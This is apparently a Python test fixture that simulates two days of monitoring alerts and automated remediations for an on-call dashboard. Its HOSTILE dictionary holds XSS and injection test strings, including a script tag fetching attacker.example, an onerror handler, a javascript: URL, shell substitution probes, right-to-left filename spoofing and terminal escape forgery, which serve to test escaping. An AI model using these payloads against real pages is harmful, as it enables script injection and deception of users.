"""Two days of alerts in every state that a person on call meets, for the tests of the board.

The code that records them in production records them here; only StackStorm and the clock are fakes
(see World). About a thousand requests are recorded:

* The past: a hundred incidents, with their repeats and resolves.
* The present: what is firing now, in each state. The last minutes of each story end at `end`.

`fill` writes them to a tracking database. The same `end` produces the same history.
"""

from __future__ import annotations

import heapq
import itertools
import os
import random
from datetime import timedelta
from unittest import mock

from sqlalchemy.pool import QueuePool

from poundcake.monitoring import HeldAlert
from poundcake.trail import database, interventions
from tests.lib.empty_databases import create_sqlite_database
from tests.lib.fake_alertmanager import FakeAlertmanager
from tests.lib.samples import alert
from tests.lib.trail.text.on_call_states import ALERTMANAGER, ANNA, World
from tests.lib.trails import disable_fsync

SETTINGS = {
    "dry_run": False,
    "allowed_hosts": ["web-*", "db-*", "mail-*", "lb-*", "kube-*"],
    "allowed_actions": ["linux.service", "linux.clean_disk", "ipmi.power_cycle", "kube.drain"],
    "settle_seconds": 0,
    "cooldown_seconds": 300,
    "host_cooldown_seconds": 1800,
    "storm_limit": 9,
    "max_changes_per_hour": 40,
    "max_changes_per_remediation_per_hour": 8,
    "remediations": [
        {
            "name": "nginx",
            "match": ['alertname="ServiceDown"', 'service="nginx"'],
            "action": "linux.service",
            "with": {"act": "restart", "service": "$service"},
            "mode": "live",
        },
        {
            "name": "postfix",
            "match": ['alertname="MailQueueGrows"'],
            "action": "linux.service",
            "with": {"act": "restart", "service": "postfix"},
            "mode": "live",
        },
        {
            "name": "full-disk",
            "match": ['alertname="FilesystemFull"'],
            "action": "linux.clean_disk",
            "with": {"path": "$mountpoint"},
            "mode": "live",
        },
        {
            "name": "dead-host",
            "match": ['alertname="HostDown"'],
            "action": "ipmi.power_cycle",
            "mode": "ask",
            "approvers": ["anna", "ben"],
        },
        {
            "name": "drain-node",
            "match": ['alertname="KubeNodeNotReady"'],
            "action": "kube.drain",
            "mode": "live",
        },
        {
            "name": "haproxy",
            "match": ['alertname="HaproxyBackendDown"'],
            "action": "linux.service",
            "with": {"act": "reload", "service": "haproxy"},
            "mode": "dry_run",
        },
    ],
}
"""The configuration with which the history is recorded, and with which an endpoint shows it."""

SHARED_LABELS = {"region": "eu-west", "environment": "production"}
"""The labels that all alerts share."""

SCRIPT = "<script>document.title = 'hacked'; fetch('https://attacker.example/')</script>"
HOSTILE = {
    "script": {
        "name": "ScriptInLabels",
        "instance": "web-90:9100",
        "labels": {"comment": SCRIPT, "path": "</pre></details></main><h1>forged</h1>"},
        "annotations": {
            "summary": f"<img src=x onerror=\"document.title='hacked'\"> {SCRIPT}",
            "runbook_url": "javascript:document.title='hacked'",
        },
    },
    "quotes": {
        "name": "Quotes\"'`<b>&amp;",
        "instance": "web-91:9100",
        "labels": {
            "comment": "\" onmouseover=\"document.title='hacked'\" x='",
            "query": "rate(a{b=\"c\",d='e'}[5m]) > 1 && `id` $(id) ${7*7} {{ 7*7 }} {% raw %}",
        },
        "annotations": {"summary": 'it\'s "quoted" & <escaped> &lt;twice&gt;', "runbook_url": ""},
    },
    "right to left": {
        "name": "RightToLeft",
        "instance": "web-92:9100",
        "labels": {"office": "שלום עולם", "file": "invoice\u202egpj.exe", "team": "فريق البنية"},
        "annotations": {"summary": "\u2067القرص ممتلئ\u2069 على web-92 \u202egnorts\u202c"},
    },
    "long": {
        "name": "Long" + "Name" * 40,
        "instance": "web-93." + "very-long-host-name." * 8 + "example.org:9100",
        "labels": {"path": "/" + "x" * 400, "sentence": "many words " * 60},
        "annotations": {"summary": "S" * 300 + " and then some words " * 20},
    },
    "wide": {
        "name": "サーバーが応答しません",
        "instance": "サーバー" * 12,
        "labels": {"チーム": "運用", "絵文字": "👩‍💻🔥" * 20, "zalgo": "z̸̧̢̛̗̣̻a̴̢l̷̨g̵̡ơ̸" * 10},
        "annotations": {"summary": "漢字" * 80},
    },
    "control characters": {
        "name": "ControlCharacters",
        "instance": "web-94:9100",
        "labels": {
            "comment": "\x1b[2J\nNOTHING RAN  Forged  web-1\n  run: st2 run poundcake.resume\u202e",
            "blank": "\u3164\u115f\u200b",
        },
        "annotations": {"summary": "line one\r\nline two\ttab\x00\x07"},
    },
}
"""Alerts whose labels and annotations try to break the page."""

MINUTE, HOUR = 60, 3600


class Incident:
    """An alert of one label set, and its notifications."""

    def __init__(self, name, instance="", severity="critical", summary="", runbook="", **labels):
        self.name = name
        self.labels = {"severity": severity, **SHARED_LABELS, **labels, "instance": instance}
        self.annotations = {"summary": summary, "runbook_url": runbook}
        self.starts_at = None
        self.row = None

    def sent(self, status="firing", ends_at=None):
        """Return the alert as Alertmanager sends it."""
        return alert(
            self.name,
            status,
            self.starts_at,
            ends_at,
            labels=self.labels,
            annotations={name: text for name, text in self.annotations.items() if text},
        )


class HistoryAlertmanager(FakeAlertmanager):
    """The Alertmanager that sends the notifications.

    Attributes:
        firing: The incidents whose alerts it holds.
        silenced_incident: The incident whose alert is silenced.
    """

    def __init__(self):
        super().__init__(ALERTMANAGER)
        self.firing, self.silenced_incident = [], None

    def alerts(self):
        return [
            HeldAlert(
                incident.sent()["labels"],
                tuple(self.silences_by_id) if incident is self.silenced_incident else (),
            )
            for incident in self.firing
        ]


class History(World):
    """A world in which many stories are told at the same time.

    A story is a generator that records what happens to an incident, and yields the seconds until it
    continues.
    """

    def __init__(self, engine, start):
        folder = os.path.dirname(engine.url.database)
        super().__init__(engine, state_dir=folder, **SETTINGS)
        self.now = start
        self.alertmanager = HistoryAlertmanager()
        self.alertmanagers = [self.alertmanager]
        self.request_ids = {}
        self._numbers = itertools.count()
        self._sync_times = set()

    def tell(self, stories, end):
        """Tell stories until a time.

        Args:
            stories: Pairs of the time at which a story starts, and its generator.
            end: When the last story pauses or ends.
        """
        due = [(start, next(self._numbers), story) for start, story in stories]
        heapq.heapify(due)
        while due and due[0][0] <= end:
            start, _, story = heapq.heappop(due)
            self._advance(start)
            seconds = next(story, None)
            if seconds is not None:
                next_start = self.now + timedelta(seconds=seconds)
                heapq.heappush(due, (next_start, next(self._numbers), story))
        self._advance(end)

    def _advance(self, moment):
        """Advance the clock. In the meantime, sync reads what StackStorm has done.

        Without a sync in between, the next one would find the same, but at a later time.
        """
        for sync_at in sorted(self._sync_times):
            if sync_at <= moment:
                self.now = max(self.now, sync_at)
                self._sync_times.discard(sync_at)
                self.sync()
        self.now = max(self.now, moment)

    def _sync_soon(self):
        """Let sync run when it finds what has just happened, and when it settles a change."""
        minute = self.now.replace(second=0, microsecond=0)
        self._sync_times |= {minute + timedelta(minutes=minutes) for minutes in (1, 17)}

    # -- notifications

    def fire(self, *incidents, **fields):
        """Notify that incidents fire. A new incident starts half a minute before that."""
        for incident in incidents:
            incident.starts_at = incident.starts_at or self.now - timedelta(seconds=30)
        rows = self.notify(*(incident.sent() for incident in incidents), **fields)
        for incident, row in zip(incidents, rows):
            self.request_ids[row.id] = self.request_id
            incident.row = row
            if incident not in self.alertmanager.firing:
                self.alertmanager.firing.append(incident)
        return rows

    def repeat(self, *incidents):
        """Notify again about incidents. Nothing is started for them."""
        self.notify(*(incident.sent() for incident in incidents))

    def resolve(self, *incidents):
        """Notify that incidents are resolved."""
        rows = self.notify(
            *(incident.sent("resolved", self.now) for incident in incidents), status="resolved"
        )
        for row, incident in zip(rows, incidents):
            self.request_ids[row.id] = self.request_id
            if row.outcome == "resolved":
                self.emit(row)
            incident.starts_at = None
            self.alertmanager.firing.remove(incident)

    def sync(self):
        self.alertmanager.now = self.now
        super().sync()

    # -- what runs for them

    def emit(self, row, *args, **fields):
        self.request_id = self.request_ids[row.id]
        super().emit(row, *args, **fields)
        self._sync_soon()

    def reserve(self, row, *args, **parameters):
        self.request_id = self.request_ids[row.id]
        return super().reserve(row, *args, **parameters)

    def remediate(self, incident, entry, seconds=9, error=""):
        """Run the workflow of an entry. It makes its change unless that is refused."""
        execution_id, begun = self.start(incident.row, remediation=entry)
        if begun["next_task"]:
            self.try_change(incident, execution_id, begun, entry, seconds, error)

    def try_change(self, incident, execution_id, begun, entry, seconds=9, error=""):
        """Reserve a change, make it if it is allowed, and end the workflow."""
        decision = self.reserve(incident.row, execution_id, begun, entry=entry)
        if decision["may_change"]:
            self.finish_change(execution_id, begun["action"], seconds, error)
        else:
            self.finish_refusal(execution_id, decision)

    def answer(self, execution_id, inquiry_id, approve, user="anna"):
        """Answer a request for approval."""
        self._sync_soon()
        response = {"approve": approve}
        self.stackstorm.run(
            inquiry_id,
            "succeeded",
            "core.ask",
            parent=execution_id,
            parent_id=execution_id,
            task_name="approve",
            result={"route": "poundcake.approval", "response": response},
        )
        self.stackstorm.run(
            execution_id, "running", "poundcake.remediate", 300, links=True, resumed_by=user
        )


# -- the past


def _past(history, end):
    """Yield the stories of a hundred incidents that have ended, and the times at which they start.

    They are spread over two days, and end hours before the present.
    """
    chance = random.Random(17)
    kinds = (
        [_nginx_restarted] * 5
        + [_disk_cleaned] * 4
        + [_host_cycled] * 2
        + [_approval_expired, _approval_rejected, _unhelpful_restart, _failed_clean]
        + [_queue_scaled] * 3
        + [_certificate_renewed] * 2
        + [_only_evidence] * 2
        + [_would_reload] * 2
        + [_refused_host, _superseded, _closed, _vanished]
    )
    for number in range(104):
        start = end - timedelta(hours=48) + timedelta(minutes=25 * number + chance.randrange(12))
        kind = kinds[chance.randrange(len(kinds))]
        yield start, kind(history, number, chance)


def _repeats(history, incident, count, seconds):
    """Repeat a notification, and yield the time in between."""
    for _ in range(count):
        yield seconds
        history.repeat(incident)
    yield seconds


def _service_down(number, service="nginx"):
    return Incident(
        "ServiceDown",
        f"web-{number}:9100",
        summary=f"{service} on web-{number} does not answer",
        runbook="https://runbooks.example/nginx",
        service=service,
        cluster=f"eu-{number % 3}",
        team="web",
    )


def _filesystem_full(number):
    return Incident(
        "FilesystemFull",
        f"db-{number}:9100",
        "warning",
        f"/data on db-{number} is 97 % full",
        "https://runbooks.example/disk",
        mountpoint="/data",
        team="databases",
    )


def _host_down(number):
    return Incident(
        "HostDown",
        f"db-{number}:9100",
        summary=f"db-{number} does not answer",
        runbook="https://runbooks.example/host",
        rack=f"r{number % 20}",
        team="databases",
    )


def _nginx_restarted(history, number, chance):
    incident = _service_down(number % 30 + 50)
    history.fire(incident)
    history.remediate(incident, "nginx", chance.randrange(4, 30))
    yield from _repeats(history, incident, chance.randrange(1, 4), 150)
    history.resolve(incident)


def _disk_cleaned(history, number, chance):
    incident = _filesystem_full(number % 20 + 50)
    history.fire(incident)
    history.remediate(incident, "full-disk", chance.randrange(20, 240))
    yield from _repeats(history, incident, chance.randrange(2, 4), 180)
    history.resolve(incident)


def _host_cycled(history, number, chance):
    incident = _host_down(number)
    history.fire(incident)
    execution_id, begun, inquiry_id = history.ask(incident.row, remediation="dead-host")
    yield from _repeats(history, incident, 2, chance.randrange(60, 300))
    history.answer(execution_id, inquiry_id, True, chance.choice(["anna", "ben"]))
    history.try_change(incident, execution_id, begun, "dead-host", 95)
    yield from _repeats(history, incident, 1, 120)
    history.resolve(incident)


def _approval_expired(history, number, chance):
    yield from _refused_cycle(history, number, "stanley", (6, 310), (3, 600))


def _approval_rejected(history, number, chance):
    yield from _refused_cycle(history, number, "ben", (1, 200), (4, 600))


def _refused_cycle(history, number, user, repeats_before, repeats_after):
    """A power cycle that a user refuses, with the repeats of the alert before and after that."""
    incident = _host_down(number)
    history.fire(incident)
    execution_id, begun, inquiry_id = history.ask(incident.row, remediation="dead-host")
    yield from _repeats(history, incident, *repeats_before)
    history.answer(execution_id, inquiry_id, False, user)
    history.try_change(incident, execution_id, begun, "dead-host")
    yield from _repeats(history, incident, *repeats_after)
    history.resolve(incident)


def _unhelpful_restart(history, number, chance):
    incident = _service_down(number % 30 + 50)
    history.fire(incident)
    history.remediate(incident, "nginx")
    yield from _repeats(history, incident, 8, 310)
    history.resolve(incident)


def _failed_clean(history, number, chance):
    incident = _filesystem_full(number % 20 + 50)
    history.fire(incident)
    history.remediate(incident, "full-disk", 12, "du: cannot access '/data': Input/output error")
    yield from _repeats(history, incident, 6, 600)
    history.resolve(incident)


def _queue_scaled(history, number, chance):
    incident = Incident(
        "QueueBacklog", "", "warning", f"orders-{number % 5} has 12,000 messages", team="shop"
    )
    incident.labels.update(queue=f"orders-{number % 5}", namespace="shop")
    history.fire(incident)
    _run_foreign_workflow(history, incident, "succeeded", chance.randrange(5, 90))
    yield from _repeats(history, incident, chance.randrange(1, 5), 240)
    history.resolve(incident)


def _run_foreign_workflow(history, incident, status, seconds=1):
    """Let a rule of another pack start its own workflow, which reports nothing."""
    execution_id = history.next_id()
    history.emit(incident.row, "ops.scale_queue", execution_id)
    history.stackstorm.run(execution_id, status, "ops.scale_queue", seconds=seconds)


def _certificate_renewed(history, number, chance):
    incident = Incident(
        "CertificateExpires", f"shop-{number}.example.org", "warning", "expires in 6 days"
    )
    history.fire(incident)
    history.emit(incident.row)
    yield from _repeats(history, incident, 9, 600)
    history.resolve(incident)


def _only_evidence(history, number, chance):
    incident = Incident("SmartError", f"db-{number}:9100", "warning", "sda: 8 pending sectors")
    history.fire(incident)
    history.start(incident.row, "poundcake.default")
    yield from _repeats(history, incident, 6, 600)
    history.resolve(incident)


def _would_reload(history, number, chance):
    incident = Incident("HaproxyBackendDown", f"lb-{number % 4}:9101", summary="shop: 1 of 8 is up")
    history.fire(incident)
    history.start(incident.row, remediation="haproxy")
    yield from _repeats(history, incident, 3, 240)
    history.resolve(incident)


def _refused_host(history, number, chance):
    incident = Incident("ServiceDown", f"legacy-{number % 9}:9100", service="nginx", team="web")
    history.fire(incident)
    history.start(incident.row, remediation="nginx")
    yield from _repeats(history, incident, 7, 400)
    history.resolve(incident)


def _superseded(history, number, chance):
    incident = Incident("ReplicationLag", f"db-{number}:9104", "warning", "42 s behind")
    history.fire(incident)
    history.emit(incident.row)
    yield from _repeats(history, incident, 2, 900)
    incident.starts_at = None
    history.fire(incident)
    history.emit(incident.row)
    yield from _repeats(history, incident, 2, 900)
    history.resolve(incident)


def _closed(history, number, chance):
    incident = Incident("BackupMissing", f"db-{number}:9100", "warning", "last backup: 26 h ago")
    history.fire(incident)
    history.emit(incident.row)
    yield from _repeats(history, incident, 5, 900)
    interventions.close(history.engine, ANNA, "the host is decommissioned", incident.row.episode)
    history.alertmanager.firing.remove(incident)


def _vanished(history, number, chance):
    incident = Incident("ExporterDown", f"web-{number}:9113", "warning", "the exporter is gone")
    history.fire(incident)
    history.emit(incident.row)
    yield from _repeats(history, incident, 2, 300)
    history.alertmanager.firing.remove(incident)
    for _ in range(3):
        yield 420
        history.sync()


# -- the present


def _present(history, end):
    """Yield the stories of the incidents that are open now, and the times at which they start."""
    now = [
        # What waits for a person
        (4, _waiting_for_approval(history, _host_down(7))),
        (19, _waiting_for_approval(history, _host_down(12))),
        (41, _paused_workflow(history)),
        # What failed, was refused, or did not help
        (20, _did_not_help(history, _service_down(21))),
        (12, _failing(history, _service_down(33))),
        (9, _not_allowed(history)),
        (8, _storm(history)),
        (75, _breaker(history)),
        (38, _hourly_limit(history)),
        (9, _host_cooldown(history)),
        (50, _without_report(history)),
        (52, _canceled(history)),
        (66, _rule_failed(history)),
        (26 * 60, _lost(history)),
        # What is being worked on
        (0.5, _running(history, _service_down(41))),
        (3, _changed(history, _service_down(45))),
        (0.25, _not_processed_yet(history)),
        # What needs nobody, or was not touched
        (35, _no_rule(history)),
        (33, _three_pods(history)),
        (90, _evidence(history)),
        (25, _reported_by_dry_run(history)),
        (58, _acknowledged(history)),
        (47, _silenced(history)),
        (27 * 60, _stale(history)),
        (98, _flapping(history)),
        (15, _malformed(history)),
        (16, _recent_clear(history)),
        *(
            (40 + number, _hostile(history, **fields))
            for number, fields in enumerate(HOSTILE.values())
        ),
    ]
    for minutes, story in now:
        yield end - timedelta(minutes=minutes), story
    for number in range(40):
        yield end - timedelta(minutes=30 * number + 240), _long_firing(history, number)


def _waiting_for_approval(history, incident):
    history.fire(incident)
    history.ask(incident.row, remediation="dead-host")
    yield from _repeats(history, incident, 20, 300)


def _paused_workflow(history):
    incident = Incident(
        "QueueBacklog", "", "critical", "payments has 90,000 messages", queue="payments"
    )
    history.fire(incident)
    _run_foreign_workflow(history, incident, "paused")
    yield from _repeats(history, incident, 20, 600)


def _did_not_help(history, incident):
    history.fire(incident)
    history.remediate(incident, "nginx")
    yield from _repeats(history, incident, 3, 300)
    history.sync()
    yield from _repeats(history, incident, 1, 240)


def _failing(history, incident):
    history.fire(incident)
    history.remediate(incident, "nginx", error="Unit nginx.service not found.")
    yield from _repeats(history, incident, 5, 300)


def _not_allowed(history):
    incident = Incident(
        "ServiceDown",
        "node-7:9100",
        summary="nginx on node-7 does not answer",
        runbook="https://runbooks.example/nginx",
        service="nginx",
        team="web",
    )
    history.fire(incident)
    history.start(incident.row, remediation="nginx")
    yield from _repeats(history, incident, 5, 240)


def _storm(history):
    nodes = [
        Incident(
            "KubeNodeNotReady", f"kube-{number}:9100", summary="not ready", rack="r12", team="k8s"
        )
        for number in range(11, 23)
    ]
    history.fire(*nodes)
    for node in nodes:
        history.remediate(node, "drain-node")
    yield 240
    history.repeat(*nodes)
    yield HOUR


def _breaker(history):
    for number in range(1, 5):
        incident = Incident(
            "MailQueueGrows", f"mail-{number}:9100", summary="4,000 messages wait", team="mail"
        )
        history.fire(incident)
        history.remediate(incident, "postfix", 6, "postfix: fatal: bad string length 0 < 1")
        yield 18 * MINUTE


def _hourly_limit(history):
    for number in range(91, 100):
        incident = _filesystem_full(number)
        history.fire(incident)
        history.remediate(incident, "full-disk", 40)
        if number < 99:
            yield 200
            history.resolve(incident)
    yield HOUR


def _host_cooldown(history):
    first, second = _service_down(43), _filesystem_full(43)
    second.labels["instance"] = "web-43:9100"
    history.fire(first)
    history.remediate(first, "nginx")
    yield 120
    history.resolve(first)
    yield 60
    history.fire(second)
    history.remediate(second, "full-disk")
    yield HOUR


def _without_report(history):
    incident = _service_down(34)
    history.fire(incident)
    execution_id, begun = history.start(incident.row, remediation="nginx")
    history.reserve(incident.row, execution_id, begun, entry="nginx")
    history.wait(3)
    history.stackstorm.run(execution_id, "abandoned", "poundcake.remediate", 3, result={})
    yield from _repeats(history, incident, 9, 600)


def _canceled(history):
    incident = _filesystem_full(8)
    history.fire(incident)
    execution_id, _ = history.start(incident.row, remediation="full-disk")
    history.wait(3)
    history.stackstorm.run(execution_id, "canceled", "poundcake.remediate", 3, result={})
    yield from _repeats(history, incident, 9, 600)


def _rule_failed(history):
    incident = Incident("CacheDown", "web-2:9150", summary="memcached on web-2 does not answer")
    history.fire(incident)
    history.emit(incident.row, "ops.cache", reason="Action ops.restart_cache was not found")
    yield from _repeats(history, incident, 9, 700)


def _lost(history):
    incident = Incident("ProxyErrors", "lb-2:9101", summary="3 % of the answers are 5xx")
    history.fire(incident)
    yield from _repeats(history, incident, 60, 1800)


def _running(history, incident):
    history.fire(incident)
    execution_id, begun = history.start(incident.row, remediation="nginx")
    history.reserve(incident.row, execution_id, begun, entry="nginx")
    history.sync()
    yield HOUR


def _changed(history, incident):
    history.fire(incident)
    history.remediate(incident, "nginx", 30)
    yield HOUR


def _not_processed_yet(history):
    history.fire(Incident("DiskReadErrors", "db-9:9100", summary="sdb: 3 read errors"))
    yield HOUR


def _no_rule(history):
    incident = Incident(
        "ClockSkew", "db-3:9100", "warning", "the clock of db-3 is 4 s ahead", team="databases"
    )
    history.fire(incident)
    history.emit(incident.row)
    yield from _repeats(history, incident, 9, 500)


def _three_pods(history):
    pods = [
        Incident("KubePodNotReady", "", "warning", f"{pod} is not ready", pod=pod, namespace="shop")
        for pod in ("cart-7d9f", "cart-x2k1", "cart-q8zz")
    ]
    for row in history.fire(*pods):
        history.emit(row)
    yield 900
    history.repeat(*pods)
    yield HOUR


def _evidence(history):
    incident = Incident("SmartError", "db-5:9100", "warning", "sda: 8 pending sectors")
    history.fire(incident)
    history.start(incident.row, "poundcake.default")
    yield from _repeats(history, incident, 9, 900)


def _reported_by_dry_run(history):
    incident = Incident("HaproxyBackendDown", "lb-1:9101", summary="shop: 1 of 8 servers is up")
    history.fire(incident)
    history.start(incident.row, remediation="haproxy")
    yield from _repeats(history, incident, 9, 400)


def _acknowledged(history):
    incident = Incident("RaidDegraded", "db-6:9100", "warning", "md0: 1 of 2 disks is missing")
    history.fire(incident)
    history.emit(incident.row)
    yield 600
    interventions.acknowledge(
        history.engine, ANNA, incident.row.episode, comment="the disk is on order"
    )
    yield from _repeats(history, incident, 9, 900)


def _silenced(history):
    incident = Incident("FanFailed", "db-2:9290", "warning", "fan 3 stands still")
    history.fire(incident)
    history.start(incident.row, "poundcake.default")
    yield 120
    history.alertmanager.silence(until=history.now + timedelta(hours=2), comment="fan is ordered")
    history.alertmanager.silenced_incident = incident
    history.sync()
    yield HOUR


def _stale(history):
    incident = Incident("TapeDriveError", "backup-1:9100", "warning", "drive 2: write errors")
    history.fire(incident)
    history.emit(incident.row)
    yield 100 * HOUR


def _flapping(history):
    incident = Incident(
        "LinkFlaps", "lb-3:9100", "warning", "eth1 on lb-3 goes up and down", team="network"
    )
    for _ in range(40):
        yield from _flap(history, incident)
    history.fire(incident)
    if incident.row.outcome == "admitted":
        history.emit(incident.row)
        yield 70
        history.resolve(incident)
        yield 70
        history.fire(incident)
    yield HOUR


def _flap(history, incident):
    history.fire(incident)
    if incident.row.outcome == "admitted":
        history.emit(incident.row)
    yield 70
    history.resolve(incident)
    yield 70


def _malformed(history):
    history.notify({**Incident("Unreadable", "db-1:9100").sent(), "startsAt": "yesterday"})
    history.notify({**Incident("Unreadable", "db-1:9100").sent(), "labels": "none"})
    yield HOUR


def _recent_clear(history):
    incident = _service_down(44)
    history.fire(incident)
    history.remediate(incident, "nginx", 11)
    yield 150
    history.resolve(incident)


def _hostile(history, name, instance, labels, annotations):
    incident = Incident(name, instance, "warning", **labels)
    incident.annotations = annotations
    history.fire(incident)
    history.emit(incident.row)
    yield from _repeats(history, incident, 2, 900)


CHORES = (
    "BackupOld",
    "KernelOutdated",
    "LogVolumeHigh",
    "NtpPeersLost",
    "PackagesOutdated",
    "RebootRequired",
    "SlowQueries",
    "TableBloat",
)
"""Alerts that fire for days."""


def _long_firing(history, number):
    incident = Incident(
        CHORES[number % len(CHORES)],
        f"web-{number + 100}:9100",
        "warning",
        "nobody has looked at this yet",
        team=("web", "shop", "mail")[number % 3],
    )
    history.fire(incident)
    history.emit(incident.row)
    yield from _repeats(history, incident, 100, 3 * HOUR)


def fill(folder, end):
    """Record the history in a new tracking database, `tracking.sqlite`.

    Args:
        folder: The folder of the database, which is the `state_dir` of an endpoint that shows it.
        end: When the history ends, as a datetime in UTC.

    Returns:
        The world in which it happened, whose clock stands still at the end.
    """
    path = create_sqlite_database(os.path.join(folder, "tracking.sqlite"))
    # A pool of connections, unlike NullPool, saves setting up thousands of them.
    with mock.patch.object(database.engine, "NullPool", QueuePool):
        engine = database.open_engine(f"sqlite:///{path}")
    disable_fsync(engine)
    history = History(engine, end - timedelta(hours=49))
    with history.stopped_clock():
        history.tell([*_past(history, end), *_present(history, end)], end)
    engine.dispose()
    return history
